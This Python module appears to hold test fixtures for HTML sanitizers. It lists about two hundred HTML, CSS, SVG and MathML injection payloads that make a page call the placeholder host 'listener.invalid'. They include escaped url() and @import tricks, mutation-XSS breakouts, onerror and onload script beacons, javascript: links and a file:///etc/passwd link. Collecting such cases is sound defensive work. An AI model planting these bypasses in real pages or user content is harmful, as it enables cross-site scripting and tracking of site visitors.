"""What a stranger may put into a layout, a text or a style sheet to make a page call somebody, run, or fall apart.

Each case has `HOST` in place of the address of a listener. Most are known from sanitizers that let them through.
"""

from __future__ import annotations

from typing import NamedTuple

HOST = "listener.invalid"
AT = f"http://{HOST}/"
RUN = f"new Image().src='{AT}'"
"""A script that calls."""


class Case(NamedTuple):
    """A page: its body, its head and its style sheet, and whether a browser calls as soon as it opens the page."""

    body: str = ""
    head: str = ""
    css: str = ""
    calls: bool = True


def quiet(body: str = "", head: str = "", css: str = "") -> Case:
    """A page that calls only after a click, in another browser, or if it were published carelessly."""
    return Case(body, head, css, calls=False)


def nested(depth: int, inside: str) -> str:
    return "<div>" * depth + inside + "</div>" * depth


SVG = "<svg viewBox='0 0 9 9'><title>A</title>{}</svg>"
RECT = "<rect width='9' height='9' {}/>"

STYLES: dict[str, Case] = {
    "a style in the body": Case(f"<style>body{{background:url({AT})}}</style>"),
    "a style in the head": Case(head=f"<style>body{{background:url({AT})}}</style>"),
    "an import": Case(f"<style>@import '{AT}';</style>"),
    "an import by url": Case(f"<style>@import url({AT}) screen;</style>"),
    "an import with an escape": Case(f"<style>@\\69mport '{AT}';</style>"),
    "an import in a block": quiet(f"<style>@media all{{@import '{AT}';}}</style>"),
    "a face": Case(f"<style>@font-face{{font-family:q;src:url({AT})}}p{{font-family:q}}</style><p>a</p>"),
    "a style attribute": Case(f"<p style='background:url({AT})'>a</p>"),
    "an escaped function": Case(f"<p style='background:\\75rl({AT})'>a</p>"),
    "a function with an escape and a blank": Case(f"<p style='background:u\\52 l({AT})'>a</p>"),
    "a function in capitals": Case(f"<p style='background:URL({AT})'>a</p>"),
    "an escaped address": Case(f"<p style='background:url(\\68ttp://{HOST}/)'>a</p>"),
    "an address in two lines": Case(f"<p style='background:url(\"{AT[:4]}\\\n{AT[4:]}\")'>a</p>"),
    "an address of the same scheme": quiet(f"<p style='background:url(//{HOST}/)'>a</p>"),
    "a file name behind an address": Case(f"<p style='background:url({AT}a.png)'>a</p>"),
    "a set of pictures": Case(f"<p style='background:image-set(\"{AT}\" 1x)'>a</p>"),
    "a set by an old name": Case(f"<p style='background:-webkit-image-set(url({AT}) 1x)'>a</p>"),
    "a set by a fallback": Case(f"<p style='background:image-set(var(--x, \"{AT}\") 1x)'>a</p>"),
    "a set by a fallback in a sheet": Case("<p>a</p>", css=f"p{{background:image-set(var(--x, '{AT}') 1x)}}"),
    "a set by a property": Case("<p>a</p>", css=f":root{{--x:'{AT}'}}p{{background:image-set(var(--x) 1x)}}"),
    "a property with a set": Case("<p>a</p>", css=f":root{{--x:image-set('{AT}' 1x)}}p{{background:var(--x)}}"),
    "a property with an address": Case("<p>a</p>", css=f":root{{--x:url({AT})}}p{{background:var(--x)}}"),
    "a registered property": Case(
        "<p>a</p>",
        css=f"@property --x{{syntax:'<image>';inherits:false;initial-value:url({AT})}}p{{background:var(--x)}}",
    ),
    "a function of one's own": quiet(
        "<p>a</p>", css=f"@function --f(){{result:'{AT}'}}p{{background:image-set(--f() 1x)}}"
    ),
    "a function of one's own with a known end": quiet(
        "<p>a</p>", css=f"@function --type(){{result:'{AT}'}}p{{background:image-set(--type() 1x)}}"
    ),
    "an attribute as address": quiet(f"<p title='{AT}' style='background:image-set(attr(title) 1x)'>a</p>"),
    "src": quiet(f"<p style='background:src(\"{AT}\")'>a</p>"),
    "src by a fallback": quiet(f"<p style='background:src(var(--x, \"{AT}\"))'>a</p>"),
    "two pictures": Case(f"<p style='background:cross-fade(url({AT}), url({AT}), 50%)'>a</p>", calls=False),
    "a pointer": quiet(f"<p style='cursor:url({AT}), auto'>a</p>"),
    "a sign of a list": Case(f"<ul style='list-style:url({AT})'><li>a</ul>"),
    "a generated picture": Case("<p>a</p>", css=f"p::before{{content:url({AT})}}"),
    "a mask": Case(f"<p style='mask:url({AT}#m)'>a</p>"),
    "a filter": quiet(f"<p style='filter:url({AT}#f)'>a</p>"),
    "a border": Case(f"<p style='border:9px solid;border-image:url({AT}) 9'>a</p>"),
    "a shape": Case(f"<p style='float:left;shape-outside:url({AT})'>a</p>"),
    "signs of a counter": quiet(
        "<p>a</p>", css=f"@counter-style q{{system:cyclic;symbols:url({AT})}}p{{list-style:q}}"
    ),
    "a binding": quiet(f"<p style='-moz-binding:url({AT}#x);behavior:url({AT})'>a</p>"),
    "a namespace": quiet("<p>a</p>", css=f"@namespace url({AT}); p{{color:red}}"),
    "a query": Case("<p>a</p>", css=f"@media all{{@supports (color:red){{p{{background:url({AT})}}}}}}"),
    "a nested rule": Case("<div><p>a</p></div>", css=f"div{{& p{{background:url({AT})}}}}"),
    "a comment in a function": quiet("<p>a</p>", css=f"p{{background:url/**/({AT})}}"),
    "an unclosed address": Case("<p>a</p>", css=f"p{{background:url({AT}"),
    "an unclosed string": Case("<p>a</p>", css=f"p{{background:url('{AT}"),
    "a string that ends with its line": Case("<p>a</p>", css=f"p{{content:'\n;background:url({AT})}}"),
    "a function whose name is a function": quiet(
        "<p>a</p>", css=f"p{{--x:x\\29 \\3b background\\3a url\\28 {AT.replace(':', chr(92) + ':')}\\29 (1)}}"
    ),
    "a name of half a character": quiet("<p>a</p>", css=f"p{{background:\\d800 url({AT})}}"),
    "a name that ends for some": Case(
        "<p>a</p>", css=f'p{{--x:\xa0url(a" ) ; background: url({AT}) ; --y: ")}}', calls=False
    ),
    "a number that ends for some": quiet("<p>a</p>", css=f'p{{--x:1\x80url(a" ) ; background: url({AT}) ; --y: ")}}'),
    "a hash that ends for some": quiet("<p>a</p>", css=f'p{{--x:#\x80url(a" ) ; background: url({AT}) ; --y: ")}}'),
    "comments of HTML in a style": Case(f"<style><!-- body{{background:url({AT})}} --></style>"),
    "a style of old": Case(f"<style type='text/css'>body{{background:url({AT})}}</style>"),
}
"""Cases in style sheets, ``<style>`` and ``style``."""

OUT: dict[str, Case] = {
    "out of a string in a sheet": quiet(css=f"p{{content:'</style><img src={AT}>'}}"),
    "out of a font": quiet(f"<p style=\"font:12pt/1 'x</style><h1><img src={AT}>'\">a</p>"),
    "out of a name of a font": quiet(f"<p style=\"font-family:'x\\22;}}*{{background:url({AT})}}'\">a</p>"),
    "out of a font in SVG": quiet(SVG.format(f"<text font-family=\"x</style><img src='{AT}'>\" y='9'>a</text>")),
    "out of a selector": quiet(css=f"a\\</style\\>\\<img\\ src\\={AT.replace('/', chr(92) + '/')}\\>{{color:red}}"),
    "out of a comparison": quiet(css=f"@media (width </style><img src={AT}>){{p{{color:red}}}}"),
    "out of a comment": quiet(css=f"/*</style><img src={AT}>*/p{{color:red}}"),
    "out of a property": quiet(css=f":root{{--x:</style><img src={AT}>}}"),
    "a style in SVG": Case(f"<svg><style>&lt;/style>&lt;/svg>*{{background:url({AT})}}</style></svg>", calls=False),
    "out of a style in SVG": quiet(f"<svg><style>&lt;/style>&lt;img src={AT} onerror={RUN}></style></svg>"),
    "out of a string of a style in SVG": quiet(f"<svg><style>p{{content:'&lt;img src={AT}>'}}</style></svg>"),
    "markup of a style in SVG": Case(f"<svg><style><img src={AT}></style></svg>"),
    "an attribute of a style in SVG": quiet(f"<svg><style><a title='</style><img src={AT}>'></style></svg>"),
    "CDATA of a style in SVG": quiet(f"<svg><style><![CDATA[</style><img src={AT}>]]></style></svg>"),
    "CDATA": quiet(f"<svg><desc><![CDATA[</desc><img src={AT}>]]></desc></svg>"),
    "out of a style in a formula": quiet(f"<math><style>&lt;/style>&lt;img src={AT}></style></math>"),
    "a style in the text of a formula": quiet(
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={AT}&gt;'></table></math>"
    ),
    "a glyph in a formula": quiet(
        f"<form><math><mtext></form><form><mglyph><style></math><img src={AT} onerror={RUN}></style></mglyph></form>"
    ),
    "marks in a formula": quiet(f"<math><mi><malignmark><style><a title='</style><img src={AT}>'></math>"),
    "HTML in a formula": Case(f"<math><annotation-xml encoding='text/html'><img src={AT}></annotation-xml></math>"),
    "HTML in an element of XML": quiet(
        f"<math><annotation-xml encoding='text/html'><style><p title='</style><img src={AT}>'></math>"
    ),
    "a style in the title of SVG": quiet(f"<svg><title><style><a title='</style><img src={AT}>'></title></svg>"),
    "a picture in the title of SVG": Case(f"<svg><title><img src={AT}></title></svg>"),
    "a formula in SVG": quiet(f"<svg><desc><math><mtext><style><a title='</style><img src={AT}>'></svg>"),
    "SVG in a formula": quiet(f"<math><mi><svg><title><style><a title='</style><img src={AT}>'></math>"),
    "noscript": quiet(f"<noscript><p title='</noscript><img src={AT}>'></noscript>"),
    "noscript in the head": quiet(head=f"<noscript><style></noscript><img src={AT}></style></noscript>"),
    "noembed": quiet(f"<noembed><p title='</noembed><img src={AT}>'></noembed>", head=""),
    "noframes": quiet(f"<noframes><p title='&lt;/noframes><img src={AT}>'></noframes>"),
    "xmp": quiet(f"<xmp><p title='</xmp><img src={AT}>'></xmp>"),
    "the words of xmp": quiet(f"<xmp><img src={AT}></xmp>"),
    "listing": Case(f"<listing>\n\n<img src={AT}></listing>"),
    "plaintext": quiet(f"<p>a<plaintext><img src={AT}>"),
    "textarea": quiet(f"<textarea><p title='&lt;/textarea><img src={AT}>'></textarea>"),
    "the title": quiet(head=f"<title>&lt;/title>&lt;img src={AT}></title>"),
    "the title of a body": quiet(f"<title>&lt;/title>&lt;img src={AT}></title>"),
    "a template": quiet(f"<template><img src={AT}><style>*{{background:url({AT})}}</style></template>"),
    "the root of a shadow": Case(f"<div><template shadowrootmode=open><img src={AT}></template></div>"),
    "a select": quiet(f"<select><style></select><img src={AT}></style></select>"),
    "a comment that ends early": Case(f"<!--><img src={AT}>-->"),
    "a comment that ends otherwise": Case(f"<!-- --!><img src={AT}> -->"),
    "a comment that does not end": quiet(f"<p>a<!-- <img src={AT}>"),
    "an instruction": Case(f"<?xml ><img src={AT}>?>"),
    "a name with a quotation mark": quiet(f"<p a\"b><img/title='\"><img src={AT}>'></p>"),
    "a table in a table": Case(f"<table><tr><a href='#'><table><img src={AT}></table></a></table>"),
    "forms in forms": Case(f"<form id=a><div></form><form id=b><img src={AT}></form></div>"),
    "paragraphs in a foreign paragraph": Case(f"<svg></p><style><a id='</style><img src={AT}>'>"),
    "a break out of SVG": Case(f"<svg><desc></desc><p><img src={AT}></svg>"),
    "very deep": Case(nested(600, f"<img src={AT}>")),
    "a drawing at the depth where browsers stop": quiet(
        nested(506, f"<svg><desc><style><a title='</style><img src={AT}>'></style></desc></svg>")
    ),
    "out of a value": quiet(f"<p title='\"><img src={AT}>'>a</p>"),
    "out of a value without quotation marks": quiet(f"<p title=`><img/src={AT}>`>a</p>", head=""),
    "control characters": Case(f"<p>a\x00\x01\x0c\x1b</p><img\x0csrc={AT}>"),
    "half a character": quiet(f"<p title='&#xD800;'>&#xDFFF;&#x80;<b>a</b></p><p style='x:\\d800'>{AT}</p>"),
    "frames": quiet("", head=f"</head><frameset><frame src={AT}></frameset>"),
}
"""Cases that break out of the element, the value or the language that contains them."""

MARKUP: dict[str, Case] = {
    "a picture": Case(f"<img src={AT}>"),
    "a picture by an old name": Case(f"<image src={AT}>"),
    "a set": Case(f"<img srcset='{AT} 1x'>"),
    "a source": Case(f"<picture><source srcset={AT}><img alt=''></picture>"),
    "the background of a table": Case(f"<table background={AT}><tr><td>a</table>"),
    "the background of a cell": Case(f"<table><tr><td background={AT}>a</table>"),
    "the background of a body": Case(f"<body background={AT}>"),
    "a film": Case(f"<video src={AT}></video>"),
    "a poster": Case(f"<video poster={AT}></video>"),
    "a sound": Case(f"<audio src={AT} autoplay></audio>"),
    "a track": quiet(f"<video><track default src={AT}></video>"),
    "a frame": Case(f"<iframe src={AT}></iframe>"),
    "a frame with a document": Case(f"<iframe srcdoc='<img src={AT}>'></iframe>"),
    "a document in data": Case(f"<iframe src='data:text/html,<img src={AT}>'></iframe>"),
    "an object": Case(f"<object data={AT}></object>"),
    "an object with a fallback": Case(f"<object><img src={AT}></object>"),
    "embedded": Case(f"<embed src={AT}>"),
    "an input": Case(f"<input type=image src={AT}>"),
    "a script": Case(f"<script>{RUN}</script>"),
    "a script from elsewhere": Case(f"<script src={AT}></script>"),
    "a module": Case(f"<script type=module>import '{AT}'</script>"),
    "rules of speculation": quiet(
        f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AT}"],"eagerness":"immediate"}}]}}</script>'
    ),
    "an event": Case(f'<img src=x: onerror="{RUN}">'),
    "an event in capitals": Case(f'<body OnLoad="{RUN}">'),
    "an event of a drawing": Case(f'<svg onload="{RUN}"><title>A</title></svg>'),
    "an event of an unknown element": Case(f'<x-y tabindex=0 autofocus onfocus="{RUN}">a</x-y>', calls=False),
    "an event of a popover": quiet(
        f'<button popovertarget=x onclick="{RUN}">a</button><p popover id=x ontoggle="">b</p>'
    ),
    "opened": Case(f'<details open ontoggle="{RUN}"><summary>a</summary>b</details>'),
    "a refresh": Case(head=f"<meta http-equiv=refresh content='0;url={AT}'>"),
    "a refresh in the body": Case(f"<META HTTP-EQUIV=Refresh CONTENT='0; {AT}'>"),
    "a cookie": quiet(head="<meta http-equiv=set-cookie content='a=b'>"),
    "another policy": quiet(head=f"<meta http-equiv=content-security-policy content='default-src *; report-uri {AT}'>"),
    "another encoding": quiet("<p>\x1b$@ a</p>", head="<meta charset=iso-2022-jp>"),
    "another encoding in words": quiet(head="<meta http-equiv=content-type content='text/html; charset=utf-7'>"),
    "a base": Case("<img src=a.png>", head=f"<base href={AT}>"),
    "a sheet": Case(head=f"<link rel=stylesheet href={AT}>"),
    "a sheet in the body": Case(f"<link rel='alternate stylesheet' href={AT} title=A>"),
    "an icon": quiet(head=f"<link rel='shortcut icon' href={AT}>"),
    "a prefetch": Case(head=f"<link rel=prefetch href={AT}>"),
    "a preload": Case(head=f"<link rel=preload as=image href={AT}>"),
    "a preload of a set": Case(head=f"<link rel=preload as=image imagesrcset='{AT} 1x' href='data:,'>"),
    "a module before": Case(head=f"<link rel=modulepreload href={AT}>", calls=False),
    "a connection": quiet(head=f"<link rel=preconnect href={AT}>"),
    "a name asked before": quiet(head=f"<link rel=dns-prefetch href={AT}>"),
    "a manifest": quiet(head=f"<link rel=manifest href={AT}>"),
    "an icon with a set": quiet(head=f"<link rel=icon href='data:,' imagesrcset={AT}>"),
    "two kinds of link": quiet(head=f"<link rel='canonical preconnect' href={AT}>"),
    "a ping": quiet(f"<a href='#a' ping={AT}>a</a>"),
    "a source of clicks": quiet(f"<img alt='' attributionsrc={AT}><a href='#' attributionsrc={AT}>a</a>"),
    "a form": quiet(f"<form action={AT}><button>a</button></form>"),
    "a button of a form": quiet(f"<button formaction={AT}>a</button>"),
    "a script in a link": quiet(f'<a href="javascript:{RUN}">a</a>'),
    "a script in a link in two lines": quiet(f'<a href="java&#x0A;script:{RUN}">a</a>'),
    "a script in a link behind a tab": quiet(f'<a href="&#1; jav&Tab;ascript&colon;{RUN}">a</a>'),
    "a script in capitals": quiet('<a href="JaVaScRiPt:alert(1)">a</a>'),
    "an old script": quiet('<a href="vbscript:msgbox(1)">a</a>'),
    "data in a link": quiet(f'<a href="data:text/html,<script>{RUN}</script>">a</a>'),
    "a file in a link": quiet('<a href="file:///etc/passwd">a</a>', head=""),
    "a blob in a link": quiet('<a href="blob:null/1">a</a><a href="view-source:x">b</a>'),
    "a script in an area": quiet('<map name=m><area href="javascript:alert(1)"></map><img usemap=#m alt="">'),
    "a script as citation": quiet('<q cite="javascript:alert(1)">a</q>'),
    "a manifest of old": quiet(f"<p>a</p></body></html><html manifest={AT}>"),
}
"""Cases in elements and attributes of HTML."""

DRAWINGS: dict[str, Case] = {
    "a fill": Case(SVG.format(RECT.format(f"fill='url({AT}#a)'"))),
    "a fill with a fallback": Case(SVG.format(RECT.format(f"fill='url(\"{AT}#a\") red'"))),
    "a stroke with an escape": Case(SVG.format(RECT.format(f"stroke='\\75rl({AT}#a)'"))),
    "a filter of a drawing": quiet(SVG.format(RECT.format(f"filter='blur(1px) url({AT}#a)'"))),
    "a mask of a drawing": Case(SVG.format(RECT.format(f"mask='url({AT}#a)'"))),
    "a clip": Case(SVG.format(RECT.format(f"clip-path='url({AT}#a)'"))),
    "a marker": Case(SVG.format(f"<path d='M0 0L9 9' marker-start='url({AT}#a)'/>")),
    "a pointer of a drawing": quiet(SVG.format(RECT.format(f"cursor='url({AT})'"))),
    "a style of a drawing": Case(SVG.format(RECT.format(f"style='fill:url({AT}#a)'"))),
    "a sheet of a drawing": Case(SVG.format(f"<style>rect{{fill:url({AT}#a)}}</style>{RECT.format('')}")),
    "an import of a drawing": Case(SVG.format(f"<style>@import '{AT}';</style>")),
    "a picture in a drawing": Case(SVG.format(f"<image href={AT} width=9 height=9 />")),
    "a picture by xlink": Case(SVG.format(f"<image xlink:href={AT} width=9 height=9 />")),
    "a picture of a filter": Case(
        SVG.format(f"<filter id=f><feImage href=' {AT}'/></filter>{RECT.format('filter=url(#f)')}"),
    ),
    "a use": Case(SVG.format(f"<use href='{AT}#a'/>"), calls=False),
    "a use by xlink": quiet(SVG.format(f"<use xlink:href='{AT}#a'/>")),
    "a use of data": quiet(
        SVG.format("<use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x'/>")
    ),
    "a gradient from elsewhere": quiet(
        SVG.format(f"<linearGradient id=g href='{AT}#g'/>{RECT.format('fill=url(#g)')}")
    ),
    "a pattern from elsewhere": quiet(SVG.format(f"<pattern id=g href='{AT}#g'/>{RECT.format('fill=url(#g)')}")),
    "a path of a text": quiet(SVG.format(f"<text><textPath xlink:href='{AT}#p'>a</textPath></text>")),
    "a link of a drawing": quiet(SVG.format("<a xlink:href='javascript:alert(1)'><text y='9'>a</text></a>")),
    "a link of a drawing in two lines": quiet(SVG.format("<a href='java&#10;script:alert(1)'><text>a</text></a>")),
    "an animated link": quiet(
        SVG.format("<a><animate attributeName=href values='javascript:alert(1)'/><text y='9'>a</text></a>")
    ),
    "an animated picture": Case(SVG.format(f"<image width=9 height=9><set attributeName=href to='{AT}'/></image>")),
    "a moved fill": quiet(SVG.format(f"<rect width=9 height=9><set attributeName=fill to='url({AT}#a)'/></rect>")),
    "a discarded script": Case(SVG.format(f"<script>{RUN}</script>")),
    "a script of a drawing from elsewhere": Case(SVG.format(f"<script href={AT}></script>")),
    "HTML in a drawing": Case(SVG.format(f"<foreignObject width=9 height=9><img src={AT}></foreignObject>")),
    "a frame in a drawing": Case(
        SVG.format(f"<foreignObject width=9 height=9><iframe srcdoc='<img src={AT}>'></iframe></foreignObject>")
    ),
    "a handler": quiet(SVG.format(f"<handler type='application/ecmascript'>{RUN}</handler>")),
    "a base of a drawing": quiet(SVG.format("<g xml:base='http://listener.invalid/'><use href='a.svg#a'/></g>")),
    "a link of a formula": quiet("<math href='javascript:alert(1)'><mi xlink:href='javascript:alert(1)'>a</mi></math>"),
    "an action of a formula": quiet(
        "<math><maction actiontype='statusline#http://listener.invalid/'>a</maction></math>"
    ),
    "a glyph of a formula": quiet(f"<math><mglyph src={AT} alt='a'/><mi>a</mi></math>"),
    "a drawing in data": quiet(
        "<img alt='' src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        f"xmlns:x='http://www.w3.org/1999/xlink'><style>@import '{AT}';*{{fill:url({AT})}}</style>"
        f"<use x:href='{AT}'/><rect fill='url({AT})' style='mask:url({AT})'/><script>1</script></svg>\">"
    ),
}
"""Cases in SVG and MathML."""

CASES = {**STYLES, **OUT, **MARKUP, **DRAWINGS}
